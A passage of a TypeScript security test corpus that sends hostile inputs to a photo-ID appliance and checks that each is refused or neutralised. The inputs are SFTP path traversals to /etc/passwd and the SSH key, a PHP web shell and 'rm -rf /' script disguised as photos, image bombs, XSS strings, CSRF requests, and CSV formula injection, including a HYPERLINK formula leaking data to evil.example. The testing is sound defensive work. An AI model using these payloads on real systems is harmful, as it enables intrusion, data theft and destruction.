/**
 * The hostile input corpus: SFTP paths, photo files, roster CSVs and web requests an attacker
 * (or a confused exporter) would send. Each case runs against a live appliance and must be
 * refused with a reason a person can act on, or neutralised (stored inertly, escaped); a case
 * that gets through throws. `hostile-run.ts` sets up the prior data and checks it afterwards.
 *
 *   npx tsx scripts/proof/hostile-corpus.ts OUT_DIR    # writes the file and CSV cases to OUT_DIR
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import sharp from 'sharp';
import { elfLike, gifBomb, gzip, jpegWithComment, jpegWithDimensions, noise, pngBomb, utf16, zipLike } from './lib/craft.ts';
import { seededJpeg, sha256 } from './lib/fixtures.ts';
import { SftpRefusal, type SftpConnection } from './lib/sftp-client.ts';
import type { WebSession } from './lib/web-client.ts';

export type Category = 'sftp-path' | 'file' | 'csv' | 'web';

export interface Outcome {
  verdict: 'refused' | 'neutralised';
  /** What the appliance said (SFTP status message, import reason, HTTP status and message). */
  message: string;
}

export interface ImportRow {
  id: number;
  status: string;
  reason: string;
  rows: number;
  added: number;
  error_count: number;
}

/** What a case may use: a live appliance with its prior data in place. */
export interface Target {
  sftp(): Promise<SftpConnection>;
  base: string;
  admin: WebSession;
  staff: WebSession;
  /** Uploads bytes as /incoming/data/students.csv and resolves with its import record. */
  importCsv(bytes: Buffer): Promise<ImportRow>;
  /** Rows of the users table (read with the sqlite3 CLI). */
  users(where: string): Array<Record<string, unknown>>;
  /** Paths outside the data folder that a traversal would create. */
  canary: string;
  /** Photo bytes of the prior data, by Local ID (cases must never replace them). */
  priorPhotos: Map<string, string>;
}

export interface HostileCase {
  category: Category;
  title: string;
  /** Resolves with what the appliance did; throws when the input got through. */
  run(t: Target): Promise<Outcome>;
  /** For the written corpus: the bytes sent (file and CSV cases). */
  bytes?: Buffer;
  name?: string;
}

export class GotThrough extends Error {}

/** Prior data the corpus attacks (set up by the runner before any case). */
export const PRIOR = {
  ids: Array.from({ length: 40 }, (_, i) => `B${String(i + 1).padStart(4, '0')}`),
  withPhotos: ['B0001', 'B0002', 'B0003', 'B0004', 'Jos\u00e9'],
  /** Users whose names come from a hostile roster, for the web cases. */
  scriptNames: [
    { id: 'X0001', first: '<script>alert(1)</script>', last: 'Scripted' },
    { id: 'X0002', first: '"><img src=x onerror=alert(2)>', last: 'Attr' },
    { id: 'X0003', first: "';alert(3);//", last: '</title><script>alert(4)</script>' },
    { id: 'X0004', first: 'javascript:alert(5)', last: '<svg onload=alert(6)>' },
  ],
};

export function priorRoster(): string {
  const lines = ['local_id,first_name,last_name,grade,building'];
  for (const [i, id] of PRIOR.ids.entries()) lines.push(`${id},Prior${i},Student,${1 + (i % 12)},HS`);
  lines.push('Jos\u00e9,Jos\u00e9,Normalised,9,HS');
  for (const u of PRIOR.scriptNames) lines.push([u.id, u.first, u.last, '9', 'HS'].map(csvCell).join(','));
  return lines.join('\r\n') + '\r\n';
}

function csvCell(v: string): string {
  return /[",\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v;
}

const UNCLEAR = /internal error|something went wrong|^failure$|^$/i;

function clear(message: string, what: string): string {
  const m = message.trim();
  if (UNCLEAR.test(m)) throw new GotThrough(`${what}: refused without a clear reason ("${m}")`);
  return m;
}

/** The SFTP operation must fail with a status and a message a person can act on. */
async function sftpRefused(op: Promise<unknown>, what: string): Promise<Outcome> {
  try {
    await op;
  } catch (err) {
    if (!(err instanceof SftpRefusal)) throw err;
    if (err.code === undefined) throw new GotThrough(`${what}: the connection dropped instead of a refusal (${err.message})`);
    return { verdict: 'refused', message: clear(err.message, what) };
  }
  throw new GotThrough(`${what}: the server accepted it`);
}

/** Refused, or accepted strictly inside the tree (nothing outside, prior photos untouched). */
async function sftpContained(t: Target, op: (c: SftpConnection) => Promise<unknown>, what: string, landed?: string): Promise<Outcome> {
  const c = await t.sftp();
  try {
    await op(c);
  } catch (err) {
    if (!(err instanceof SftpRefusal) || err.code === undefined) throw err;
    return { verdict: 'refused', message: clear(err.message, what) };
  }
  const { existsSync } = await import('node:fs');
  if (existsSync(t.canary)) throw new GotThrough(`${what}: created a file outside the data folder`);
  if (landed) {
    const entries = (await c.list('/incoming/idphotos')).map((e) => e.filename);
    if (!entries.includes(landed)) throw new GotThrough(`${what}: accepted, but not stored as ${landed}`);
    await c.remove(`/incoming/idphotos/${landed}`);
  }
  return { verdict: 'neutralised', message: landed ? `stored inside the tree as /incoming/idphotos/${landed}` : 'nothing outside the tree was touched' };
}

// --- SFTP paths ---------------------------------------------------------------------------

function sftpPathCases(photo: Buffer): HostileCase[] {
  const cases: HostileCase[] = [];
  const put = (title: string, path: string, expect: 'refuse' | { contain: string } = 'refuse') =>
    cases.push({
      category: 'sftp-path',
      title,
      run: async (t) => {
        const c = await t.sftp();
        return expect === 'refuse' ? sftpRefused(c.upload(path, photo), title) : sftpContained(t, (cc) => cc.upload(path, photo), title, expect.contain);
      },
    });
  const long = 'A'.repeat(300);
  // Traversal
  put('traversal to /etc/passwd', '/incoming/idphotos/../../../../etc/passwd');
  put('traversal out of the tree to a canary', '/incoming/idphotos/../../../../../tmp/idphotos-hostile-canary.jpg');
  put('relative traversal', '../../../../tmp/idphotos-hostile-canary.jpg');
  put('traversal to the database file', '/incoming/idphotos/../../idphotos.db');
  put('traversal into the content store', '/incoming/idphotos/../../photos/sha256/aa/evil.jpg');
  put('traversal into staging of another account', '/incoming/../sftp/staging/u-other/idphotos/x.jpg');
  put('backslash traversal', '/incoming/idphotos/..\\..\\..\\tmp\\idphotos-hostile-canary.jpg');
  put('mixed slash traversal', '/incoming/idphotos/..\\../idphotos-hostile-canary.jpg');
  put('percent-encoded traversal is a literal name, kept inside', '/incoming/idphotos/..%2f..%2fC9001.jpg', { contain: '..%2f..%2fC9001.jpg' });
  put('dot segments that stay inside', '/incoming/idphotos/./../idphotos/./C9002.jpg', { contain: 'C9002.jpg' });
  put('upload to the root', '/C9003.jpg');
  put('upload to /incoming itself', '/incoming/C9004.jpg');
  put('upload into a subfolder', '/incoming/idphotos/sub/C9005.jpg');
  put('absolute host path', '/tmp/idphotos-hostile-canary.jpg');
  put('home-relative path', '~/idphotos-hostile-canary.jpg');
  // NUL and control characters
  put('NUL before the extension', '/incoming/idphotos/C9006\u0000.jpg');
  put('NUL hiding an extension', '/incoming/idphotos/C9007.jpg\u0000.sh');
  put('NUL in the folder name', '/incoming/idp\u0000hotos/C9008.jpg');
  put('newline in the name (log injection)', '/incoming/idphotos/C9009\n{"level":60,"msg":"forged"}.jpg');
  put('carriage return in the name', '/incoming/idphotos/C9010\r.jpg');
  put('escape sequence in the name', '/incoming/idphotos/C9011\u001b[31m.jpg');
  put('DEL in the name', '/incoming/idphotos/C9012\u007f.jpg');
  // Over-long
  put('name of 300 bytes', `/incoming/idphotos/${long}.jpg`);
  put('name of 256 bytes', `/incoming/idphotos/${'B'.repeat(252)}.jpg`);
  put('path of 5000 bytes', `/incoming/idphotos/${'x/'.repeat(2500)}C.jpg`);
  put('path of 70000 bytes', `/incoming/${'a'.repeat(70_000)}.jpg`);
  put('deep nesting of 1000 levels', `/${'incoming/idphotos/'.repeat(500)}C9013.jpg`);
  // Unicode look-alikes
  put('Cyrillic і in "incoming"', '/\u0456ncoming/idphotos/C9014.jpg');
  put('Cyrillic о in "idphotos"', '/incoming/idph\u043etos/C9015.jpg');
  put('full-width slash', '/incoming\uff0fidphotos\uff0fC9016.jpg');
  put('division slash instead of /', '/incoming\u2215idphotos\u2215C9017.jpg');
  put('full-width dot before the extension', '/incoming/idphotos/C9018\uff0ejpg');
  put('right-to-left override hiding .exe', '/incoming/idphotos/C9019\u202egpj.exe');
  put('zero-width space after the extension', '/incoming/idphotos/C9020.jpg\u200b');
  put('Cyrillic В in a Local ID is another ID, never B0001', '/incoming/idphotos/\u04120001.jpg', { contain: '\u04120001.jpg' });
  put('trailing space after the extension', '/incoming/idphotos/C9021.jpg ');
  put('trailing dot (Windows strips it)', '/incoming/idphotos/C9022.jpg.');
  cases.push({
    category: 'sftp-path',
    title: 'hidden dot file is only ever a staged temporary file',
    run: async (t) => {
      const out = await sftpContained(t, (c) => c.upload('/incoming/idphotos/.C9023.jpg', photo), 'hidden dot file');
      const res = await t.admin.get('/api/photos/unmatched');
      const list = JSON.stringify(await res.json());
      if (list.includes('C9023')) throw new GotThrough('a dot file was ingested as a photo');
      await (await t.sftp()).remove('/incoming/idphotos/.C9023.jpg').catch(() => undefined);
      return out.verdict === 'refused' ? out : { verdict: 'neutralised', message: 'kept as a staged temporary name (never ingested, removed after a day)' };
    },
  });
  // Normalisation: the NFD spelling of José is a different Local ID, never José's photo
  put('NFD spelling of a Local ID whose NFC form has a photo', '/incoming/idphotos/Jose\u0301.jpg', { contain: 'Jose\u0301.jpg' });
  put('roster file name in another letter case', '/incoming/data/Students.csv');
  put('roster file name with a look-alike (Cyrillic с)', '/incoming/data/students.\u0441sv');
  put('roster file name with a trailing space', '/incoming/data/students.csv ');
  put('executable in the data folder', '/incoming/data/run.sh');

  const op = (title: string, fn: (c: SftpConnection) => Promise<unknown>) =>
    cases.push({ category: 'sftp-path', title, run: async (t) => sftpRefused(fn(await t.sftp()), title) });
  op('mkdir a subfolder in idphotos/', (c) => c.mkdir('/incoming/idphotos/evil'));
  op('mkdir outside the tree', (c) => c.mkdir('/incoming/../../evil'));
  op('symlink to /etc/passwd', (c) => new Promise((res, rej) => c.sftp.symlink('/etc/passwd', '/incoming/idphotos/C9024.jpg', (e) => (e ? rej(new SftpRefusal((e as { code?: number }).code, e.message)) : res(undefined)))));
  op('read /etc/passwd', (c) => c.download('/etc/passwd'));
  op('read the database by traversal', (c) => c.download('/incoming/idphotos/../../idphotos.db'));
  op('read the SSH host key by traversal', (c) => c.download('/../../ssh_host_ed25519_key'));
  op('stat outside the tree', (c) => c.stat('/../../../etc/shadow'));
  op('list a folder outside the tree', (c) => c.list('/etc'));
  op('remove the database by traversal', (c) => c.remove('/incoming/data/../../idphotos.db'));
  op('rename a missing file over a prior photo', (c) => c.rename('/incoming/idphotos/C9025.jpg', '/incoming/idphotos/B0001.jpg'));
  op('rename a stored photo out of the tree', (c) => c.rename('/incoming/idphotos/B0003.jpg', '/tmp/idphotos-hostile-canary.jpg'));
  op('rmdir the idphotos folder', (c) => new Promise((res, rej) => c.sftp.rmdir('/incoming/idphotos', (e) => (e ? rej(new SftpRefusal((e as { code?: number }).code, e.message)) : res(undefined)))));
  return cases;
}

// --- photo files --------------------------------------------------------------------------

async function fileCases(photo: Buffer, maxBytes: number): Promise<HostileCase[]> {
  const cases: HostileCase[] = [];
  const png = await sharp({ create: { width: 64, height: 64, channels: 3, background: '#888' } }).png().toBuffer();
  const gif = await sharp({ create: { width: 64, height: 64, channels: 3, background: '#888' } }).gif().toBuffer();
  const webp = await sharp({ create: { width: 64, height: 64, channels: 3, background: '#888' } }).webp().toBuffer();
  const tiff = await sharp({ create: { width: 64, height: 64, channels: 3, background: '#888' } }).tiff().toBuffer();
  const big = await seededJpeg(77, 600, 600);
  const over = Buffer.concat([photo, Buffer.alloc(maxBytes + 1 - photo.length, 0)]);
  // Refused outright; the prior photo of B0002 must stay.
  const refused = (title: string, name: string, bytes: Buffer) =>
    cases.push({
      category: 'file',
      title,
      name,
      bytes,
      run: async (t) => {
        const before = new Set((await t.admin.json<Array<{ id?: number; time?: string; file_name: string; reason: string }>>('/api/photos/rejected?limit=10000')).map((r) => JSON.stringify(r)));
        try {
          return await sftpRefused((await t.sftp()).upload(`/incoming/idphotos/${name}`, bytes), title);
        } catch (err) {
          if (!(err instanceof GotThrough) || !/accepted it/.test(err.message)) throw err;
          // Acknowledged once durable, rendered afterwards: a file that fails to decode is then
          // refused, listed for the admin, and the previous photo stays.
          const deadline = Date.now() + 15_000;
          while (Date.now() < deadline) {
            const now = await t.admin.json<Array<{ file_name: string; reason: string }>>('/api/photos/rejected?limit=10000');
            const added = now.find((r) => r.file_name === name && !before.has(JSON.stringify(r)));
            if (added) return { verdict: 'refused', message: `refused after the upload was acknowledged (admin list): ${clear(added.reason, title)}` };
            await new Promise((r) => setTimeout(r, 100));
          }
          throw err;
        }
      },
    });
  refused('zero bytes', 'B0002.jpg', Buffer.alloc(0));
  refused('one byte', 'B0002.jpg', Buffer.from([0xff]));
  refused('JPEG signature only', 'B0002.jpg', Buffer.from([0xff, 0xd8, 0xff]));
  refused('plain text named .jpg', 'B0002.jpg', Buffer.from('this is not a photo\n'));
  refused('web page named .jpg (script inside)', 'B0002.jpg', Buffer.from('<!DOCTYPE html><html><script>alert(1)</script></html>'));
  refused('SVG with script named .png', 'B0002.png', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'));
  refused('XML-wrapped SVG named .gif', 'B0002.gif', Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'));
  refused('PDF named .jpg', 'B0002.jpg', Buffer.from('%PDF-1.7\n1 0 obj <<>> endobj\n%%EOF\n'));
  refused('ZIP (or .xlsx) named .jpg', 'B0002.jpg', zipLike());
  refused('ELF executable named .jpg', 'B0002.jpg', elfLike());
  refused('shell script named .jpg', 'B0002.jpg', Buffer.from('#!/bin/sh\nrm -rf /\n'));
  refused('PHP web shell named .gif', 'B0002.gif', Buffer.from('<?php system($_GET["c"]); ?>'));
  refused('GIF header followed by PHP (polyglot, no trailer)', 'B0002.gif', Buffer.from('GIF89a<?php system($_GET["c"]); ?>'));
  refused('WebP named .jpg', 'B0002.jpg', webp);
  refused('TIFF named .jpg', 'B0002.jpg', tiff);
  refused('HEIC (ftyp heic) named .jpg', 'B0002.jpg', Buffer.concat([Buffer.from([0, 0, 0, 0x18]), Buffer.from('ftypheic\0\0\0\0mif1heic'), Buffer.alloc(100)]));
  refused('random bytes named .png', 'B0002.png', noise(4096, 5));
  refused('JPEG truncated at half', 'B0002.jpg', photo.subarray(0, Math.floor(photo.length / 2)));
  refused('JPEG truncated after the header', 'B0002.jpg', photo.subarray(0, 300));
  refused('PNG without its end chunk', 'B0002.png', png.subarray(0, png.length - 12));
  refused('GIF truncated at half', 'B0002.gif', gif.subarray(0, Math.floor(gif.length / 2)));
  refused('JPEG with a damaged scan (noise in the middle, end marker kept)', 'B0002.jpg', Buffer.concat([photo.subarray(0, 700), noise(photo.length - 702, 3), photo.subarray(-2)]));
  refused('PNG decompression bomb (30000×30000 declared)', 'B0002.png', pngBomb(30_000, 30_000));
  refused('PNG bomb at 100 megapixels', 'B0002.png', pngBomb(10_000, 10_000));
  refused('GIF bomb (65535×65535 screen and frame)', 'B0002.gif', gifBomb(65_535, 65_535));
  refused('JPEG header promising 65000×65000 pixels', 'B0002.jpg', jpegWithDimensions(big, 65_000, 65_000));
  refused('one byte over the size limit', 'B0002.jpg', over);
  refused('twice the size limit', 'B0002.jpg', Buffer.concat([over, over]));
  refused('a Local ID with an unsupported extension (.exe)', 'B0002.exe', photo);
  refused('HEIC extension', 'B0002.heic', photo);
  // Accepted only as inert content: the display images are re-encoded, so nothing appended or
  // embedded reaches a browser.
  const inert = (title: string, id: string, bytes: Buffer, marker: string) =>
    cases.push({
      category: 'file',
      title,
      name: `${id}.jpg`,
      bytes,
      run: async (t) => {
        const c = await t.sftp();
        try {
          await c.upload(`/incoming/idphotos/${id}.jpg`, bytes);
        } catch (err) {
          if (err instanceof SftpRefusal && err.code !== undefined) return { verdict: 'refused', message: clear(err.message, title) };
          throw err;
        }
        // Acknowledged once durable; shown once rendered.
        for (let deadline = Date.now() + 15_000; Date.now() < deadline; await new Promise((r) => setTimeout(r, 100))) {
          const probe = await t.admin.get(`/photos/${id}?size=thumb`);
          await probe.arrayBuffer();
          if (probe.status === 200) break;
        }
        for (const size of ['thumb', 'profile', 'full']) {
          const res = await t.admin.get(`/photos/${id}?size=${size}`);
          const body = Buffer.from(await res.arrayBuffer());
          if (res.headers.get('content-type') !== 'image/jpeg') throw new GotThrough(`${title}: GET /photos/${id}?size=${size} answered ${res.status} ${res.headers.get('content-type')}: ${body.toString().slice(0, 200)}`);
          if (body.includes(Buffer.from(marker))) throw new GotThrough(`${title}: the ${size} display image carries the payload`);
        }
        return { verdict: 'neutralised', message: 'accepted; display images are re-encoded and carry none of the payload' };
      },
    });
  inert('JPEG with a ZIP appended (polyglot)', 'C9101', Buffer.concat([photo, Buffer.from('PK\u0003\u0004PAYLOAD-ZIP'), zipLike()]), 'PAYLOAD-ZIP');
  inert('JPEG with a script in its comment segment', 'C9102', jpegWithComment(photo, '<script>alert("PAYLOAD-COM")</script>'), 'PAYLOAD-COM');
  inert('JPEG with HTML appended after the end marker', 'C9103', Buffer.concat([photo, Buffer.from('<html><script>PAYLOAD-HTML</script></html>')]), 'PAYLOAD-HTML');
  return cases;
}

// --- roster CSVs --------------------------------------------------------------------------

const HEADER = 'local_id,first_name,last_name,grade,building';

function rows(prefix: string, n: number, name = (i: number) => `First${i}`): string[] {
  return Array.from({ length: n }, (_, i) => `${prefix}${String(i).padStart(4, '0')},${name(i)},Last${i},9,HS`);
}

function csvCases(): HostileCase[] {
  const cases: HostileCase[] = [];
  let n = 0;
  /**
   * `expect`: 'refused' (the whole file), or 'any' (refused, or applied with every stored text
   * free of control characters). Prior users are checked by the runner after the whole corpus.
   */
  const csv = (title: string, bytes: Buffer, expect: 'refused' | 'any' = 'any', check?: (t: Target, row: ImportRow) => Promise<string | undefined> | string | undefined) => {
    const tag = `H${String(++n).padStart(3, '0')}`;
    const data = bytes;
    cases.push({
      category: 'csv',
      title,
      name: `${tag}-students.csv`,
      bytes: data,
      run: async (t) => {
        const row = await t.importCsv(data);
        if (row.status === 'refused' || row.status === 'held') {
          return { verdict: 'refused', message: clear(`import ${row.id} ${row.status}: ${row.reason}`, title) };
        }
        if (expect === 'refused') throw new GotThrough(`${title}: import ${row.id} was ${row.status} (${row.added} added)`);
        const bad = t.users("local_id LIKE 'H%' OR local_id LIKE '=%' OR local_id LIKE '+%'").filter((u) =>
          Object.values(u).some((v) => typeof v === 'string' && /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f]/.test(v)),
        );
        if (bad.length) throw new GotThrough(`${title}: stored control characters for ${bad.map((u) => JSON.stringify(u.local_id)).join(', ')}`);
        const extra = await check?.(t, row);
        if (extra) throw new GotThrough(`${title}: ${extra}`);
        return { verdict: 'neutralised', message: `import ${row.id} ${row.status}: ${row.added} added, ${row.error_count} errors${row.reason ? ` (${row.reason})` : ''}` };
      },
    });
    return tag;
  };
  const text = (lines: string[], eol = '\r\n') => lines.join(eol) + eol;
  const b = (s: string) => Buffer.from(s, 'utf8');

  // Encoding traps
  csv('UTF-16LE without a BOM', utf16(text([HEADER, ...rows('HA', 20)]), 'le'));
  csv('UTF-16BE without a BOM', utf16(text([HEADER, ...rows('HB', 20)]), 'be'));
  csv('UTF-16LE BOM with UTF-8 content', Buffer.concat([Buffer.from([0xff, 0xfe]), b(text([HEADER, ...rows('HC', 20)]))]));
  csv('UTF-8 BOM with UTF-16 content', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), utf16(text([HEADER, ...rows('HD', 20)]), 'le')]));
  csv('invalid UTF-8 bytes in names', Buffer.concat([b(`${HEADER}\r\nHE0001,Ren`), Buffer.from([0xc3, 0x28, 0xa0, 0xa1]), b(`e,Last,9,HS\r\n${rows('HE1', 20).join('\r\n')}\r\n`)]));
  csv('overlong UTF-8 encoding of "<"', Buffer.concat([b(`${HEADER}\r\nHF0001,`), Buffer.from([0xc0, 0xbc]), b(`script,Last,9,HS\r\n${rows('HF1', 20).join('\r\n')}\r\n`)]));
  csv('NUL bytes inside fields', b(text([HEADER, 'HG0001,Ab\u0000c,Last,9,HS', ...rows('HG1', 20)])));
  csv('NUL-padded file (UTF-32-like)', Buffer.from(Array.from(b(text([HEADER, ...rows('HH', 5)]))).flatMap((x) => [x, 0, 0, 0])));
  csv('BOM in the middle of the file', b(text([HEADER, ...rows('HI', 10), '\ufeffHI9999,Mid,Bom,9,HS', ...rows('HI1', 10)])));
  csv('CR-only line endings (classic Mac)', b(text([HEADER, ...rows('HJ', 20)], '\r')));
  csv('mixed line endings', b(`${HEADER}\n${rows('HK', 10).join('\r\n')}\r${rows('HK1', 10).join('\n')}\n`));
  csv('Windows-1252 smart quotes and accents', Buffer.from(`${HEADER}\r\nHL0001,\u0093Bob\u0094,M\u00fcller,9,HS\r\n${rows('HL1', 20).join('\r\n')}\r\n`, 'latin1'));
  csv('zero-width characters in a Local ID', b(text([HEADER, 'HM\u200b0001,Zero,Width,9,HS', ...rows('HM1', 20)])));
  csv('right-to-left override in a name', b(text([HEADER, 'HN0001,\u202eevil\u202c,Name,9,HS', ...rows('HN1', 20)])));
  csv('C1 control characters and escape sequences in names', b(text([HEADER, 'HO0001,\u001b[2J\u001b[31mRed,Term,9,HS', 'HO0002,Bell\u0007,Ring,9,HS', ...rows('HO1', 40)])));
  csv('empty file', Buffer.alloc(0), 'refused');
  csv('only a BOM', Buffer.from([0xef, 0xbb, 0xbf]), 'refused');
  csv('header only, no rows', b(`${HEADER}\r\n`));
  csv('random binary', noise(64 * 1024, 9), 'refused');
  csv('gzip-compressed CSV', gzip(text([HEADER, ...rows('HP', 20)])), 'refused');
  csv('Excel workbook (ZIP) saved as .csv', zipLike(), 'refused');
  csv('HTML error page saved as .csv', b('<!DOCTYPE html><html><body>502 Bad Gateway</body></html>'), 'refused');
  csv('Excel "sep=;" first line', b(text(['sep=;', HEADER.replace(/,/g, ';'), ...rows('HQ', 20).map((r) => r.replace(/,/g, ';'))])));
  csv('duplicate header columns', b(text(['local_id,local_id,first_name,last_name', 'HR0001,HR9999,Dup,Col'])));
  csv('header of unknown columns', b(text(['foo,bar,baz', '1,2,3'])), 'refused');
  // Formula injection: stored as text, escaped in the error report a spreadsheet opens
  const formulas = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
  csv('formula injection in first names', b(text([HEADER, ...formulas.map((f, i) => `HS000${i},${csvCell(f)},Formula,9,HS`), ...rows('HS1', 200)])));
  csv(
    'formula injection in Local IDs of rows with errors (error report)',
    b(text([HEADER, ...formulas.slice(0, 4).map((f) => `${csvCell(f)},,,9,HS`), ...rows('HT1', 200)])),
    'any',
    async (t, row) => {
      const res = await t.admin.get(`/api/imports/${row.id}/errors.csv`);
      const report = await res.text();
      if (res.status !== 200) return `error report answered ${res.status}`;
      for (const line of report.split(/\r\n/).slice(1)) {
        const cells = line.match(/"(?:[^"]|"")*"/g) ?? [];
        for (const cell of cells) if (/^"[=+\-@\t\r]/.test(cell)) return `the error report has a cell a spreadsheet would run: ${cell.slice(0, 60)}`;
      }
      return undefined;
    },
  );
  // Enormous fields and shapes
  csv('a 3 MB name', b(text([HEADER, `HU0001,${'N'.repeat(3 * 1024 * 1024)},Huge,9,HS`, ...rows('HU1', 20)])), 'any', (t) => {
    const u = t.users("local_id = 'HU0001'")[0];
    return u && String(u.first_name).length > 10_000 ? `stored a ${String(u.first_name).length}-character first name` : undefined;
  });
  csv('a 5 MB field (over the record limit)', b(text([HEADER, `HV0001,${'N'.repeat(5 * 1024 * 1024)},Huge,9,HS`])), 'refused');
  csv('an opening quote never closed', b(text([HEADER, 'HW0001,"Never closed,Last,9,HS', ...rows('HW1', 20)])), 'refused');
  csv('a header of 1,000,000 columns', b(`${HEADER},${'x,'.repeat(1_000_000)}x\r\n${rows('HX', 5).join('\r\n')}\r\n`), 'any');
  csv('a row of 2,000,000 columns', b(`${HEADER}\r\n${rows('HY', 20).join('\r\n')}\r\nHY9999,${','.repeat(2_000_000)}\r\n`), 'any');
  csv('100,000 rows all with the same Local ID', b(text([HEADER, ...Array.from({ length: 100_000 }, (_, i) => `HZ0001,Same${i},Id,9,HS`)])), 'refused');
  csv('200,000 blank lines', b(`${HEADER}\r\n${'\r\n'.repeat(200_000)}${rows('Ha', 5).join('\r\n')}\r\n`));
  csv('every row malformed (wrong column count)', b(text([HEADER, ...Array.from({ length: 50 }, (_, i) => `Hb${i},only-two`)])), 'refused');
  csv('a Local ID with path characters', b(text([HEADER, 'Hc/../../etc,Path,Id,9,HS', 'Hc\\..\\x,Back,Slash,9,HS', ...rows('Hc1', 40)])));
  return cases;
}

// --- web ----------------------------------------------------------------------------------

function webCases(): HostileCase[] {
  const cases: HostileCase[] = [];
  const web = (title: string, run: (t: Target) => Promise<Outcome>) => cases.push({ category: 'web', title, run });

  /** Signed out: no image bytes, no user data, only a sign-in redirect or an error. */
  const signedOut = (path: string, method = 'GET') =>
    web(`signed out: ${method} ${path.slice(0, 60)}`, async (t) => {
      const res = await fetch(`${t.base}${path}`, { method, redirect: 'manual' });
      const body = method === 'HEAD' ? '' : await res.text();
      const type = res.headers.get('content-type') ?? '';
      if (res.status < 300 || type.startsWith('image/')) throw new GotThrough(`${path}: answered ${res.status} ${type} while signed out`);
      for (const sha of t.priorPhotos.values()) if (body.includes(sha)) throw new GotThrough(`${path}: leaked a photo hash while signed out`);
      if (/Prior\d|Normalised/.test(body)) throw new GotThrough(`${path}: leaked a name while signed out`);
      return { verdict: 'refused', message: `${res.status}${res.headers.get('location') ? ` → ${res.headers.get('location')}` : ''}` };
    });
  for (const size of ['thumb', 'profile', 'full']) signedOut(`/photos/B0001?size=${size}`);
  signedOut('/photos/B0001');
  signedOut('/photos/B0001', 'HEAD');
  signedOut('/photos/B0001?version=1');
  signedOut('/photos/Jos%C3%A9');
  signedOut('/photos/b0001');
  signedOut('/photos//B0001');
  signedOut('/photos/B0001/');
  signedOut('/photos/B0001%00');
  signedOut('/photos/..%2fphotos%2fB0001');
  signedOut('/assets/..%2f..%2fphotos%2fB0001');
  signedOut('/assets/../photos/B0001');
  signedOut('/PHOTOS/B0001');
  signedOut('/api/users/B0001');
  signedOut('/api/users/%2e%2e%2fB0001');
  signedOut('/api/photo-versions/B0001');
  signedOut('/api/photos/unmatched');
  signedOut('/users/B0001');
  signedOut('/search?q=Prior');
  signedOut('/admin/audit');
  signedOut('/api/imports');
  signedOut('/api/photos/B0001/restore', 'POST');

  /** Staff: every admin page and API is 403, under any spelling. */
  const staffDenied = (path: string, method = 'GET') =>
    web(`staff: ${method} ${path}`, async (t) => {
      const res = await t.staff.get(path, { method, headers: method === 'GET' ? {} : { 'x-csrf-token': t.staff.csrf, origin: t.base, 'content-type': 'application/json' }, body: method === 'GET' ? undefined : '{"version":1}' });
      const body = await res.text();
      if (res.status < 400) throw new GotThrough(`${path}: staff got ${res.status}`);
      if (res.status === 403 && !/administrator/i.test(body)) throw new GotThrough(`${path}: 403 without saying why`);
      return { verdict: 'refused', message: `${res.status}` };
    });
  for (const p of ['/admin', '/admin/', '/admin/status', '/admin/audit', '/admin/imports', '/admin/photos', '/api/imports', '/api/audit', '/api/photos/unmatched', '/api/photos/rejected', '/api/photo-versions/B0001', '//admin/audit', '/admin//audit', '/admin/./audit', '/ADMIN/audit', '/admin%2faudit', '/api/imports/1/errors.csv']) staffDenied(p);
  staffDenied('/api/photos/B0001/restore', 'POST');
  staffDenied('/api/imports/1/approve', 'POST');

  // CSRF: state changes need our own origin and the session's token
  const csrf = (title: string, headers: (t: Target) => Record<string, string>) =>
    web(`CSRF: ${title}`, async (t) => {
      const res = await t.admin.get('/api/photos/B0001/restore', { method: 'POST', headers: { 'content-type': 'application/json', ...headers(t) }, body: '{"version":1}' });
      const text = await res.text();
      if (res.status !== 403) throw new GotThrough(`restore answered ${res.status}: ${text.slice(0, 200)}`);
      return { verdict: 'refused', message: `403 ${JSON.parse(text).error?.message ?? ''}` };
    });
  csrf('no token, same origin', (t) => ({ origin: t.base }));
  csrf('no token, no origin', () => ({}));
  csrf('a wrong token', (t) => ({ origin: t.base, 'x-csrf-token': 'forged-token' }));
  csrf('the token of another session', (t) => ({ origin: t.base, 'x-csrf-token': t.staff.csrf }));
  csrf('valid token from another site', (t) => ({ 'x-csrf-token': t.admin.csrf, origin: 'https://evil.example' }));
  csrf('valid token, Origin null (sandboxed frame)', (t) => ({ 'x-csrf-token': t.admin.csrf, origin: 'null' }));
  csrf('valid token, Sec-Fetch-Site cross-site', (t) => ({ 'x-csrf-token': t.admin.csrf, 'sec-fetch-site': 'cross-site' }));
  csrf('valid token in a text/plain body from another site', () => ({ origin: 'https://evil.example', 'content-type': 'text/plain' }));
  web('CSRF: cross-site form post to sign out', async (t) => {
    const res = await t.admin.get('/logout', { method: 'POST', headers: { origin: 'https://evil.example', 'content-type': 'application/x-www-form-urlencoded' }, body: '' });
    await res.arrayBuffer();
    const still = await t.admin.get('/api/users/B0001');
    await still.arrayBuffer();
    if (res.status !== 403 || still.status !== 200) throw new GotThrough(`cross-site sign-out answered ${res.status}; session afterwards ${still.status}`);
    return { verdict: 'refused', message: '403; the session is still valid' };
  });
  web('CSRF: cross-site sign-in (login CSRF)', async (t) => {
    const res = await fetch(`${t.base}/login`, { method: 'POST', redirect: 'manual', headers: { origin: 'https://evil.example', 'content-type': 'application/x-www-form-urlencoded' }, body: 'username=desk&password=x' });
    await res.arrayBuffer();
    if (res.status !== 403) throw new GotThrough(`cross-site sign-in answered ${res.status}`);
    return { verdict: 'refused', message: '403' };
  });

  // Session fixation and cookies
  web('session fixation: a planted session id is never adopted', async (t) => {
    const planted = 'idphotos_session=attacker-chosen-session-id-0123456789';
    const res = await fetch(`${t.base}/login`, { method: 'POST', redirect: 'manual', headers: { cookie: planted, origin: t.base, 'content-type': 'application/x-www-form-urlencoded' }, body: 'username=desk&password=proof-under-fire-1' });
    await res.arrayBuffer();
    const set = res.headers.get('set-cookie') ?? '';
